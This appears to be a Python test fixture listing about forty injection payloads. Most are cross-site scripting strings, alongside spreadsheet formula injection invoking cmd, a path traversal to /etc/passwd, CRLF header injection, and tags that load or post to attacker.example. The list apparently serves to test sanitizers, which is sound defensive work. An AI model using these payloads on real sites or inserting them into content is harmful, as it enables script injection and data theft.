"""Forty texts that pages fall for that take words for anything but words."""

PAYLOADS = [
    "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", '"><svg onload=alert(1)>', "'-alert(1)-'", "javascript:alert(1)",
    "</textarea><script>alert(1)</script>", "<iframe src=//attacker.example>", "<a href=javascript:alert(1)>x</a>",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<style>@import'//attacker.example'</style>",
    "<link rel=stylesheet href=//attacker.example>", "<base href=//attacker.example>",
    "<meta http-equiv=refresh content='0;url=//a.example'>",
    "<form action=//attacker.example><input type=submit>", "<object data=//attacker.example>", "<embed src=//attacker.example>",
    "<video src=x onerror=alert(1)>", "<math><mtext><img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)", "\\u003cscript\\u003ealert(1)", "<!--<img src=x onerror=alert(1)>-->",
    "]]><script>alert(1)</script>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<x onclick=alert(1)>x",
    "<template><img src=x onerror=alert(1)></template>",
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"//attacker.example\")", "../../etc/passwd", "%0d%0aSet-Cookie: a=b", "a\tb", "`alert(1)`",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<img src='//attacker.example/x.png'>",
    "data:text/html,<script>alert(1)</script>",
    "onmouseover=alert(1) x=",
]  # fmt: skip
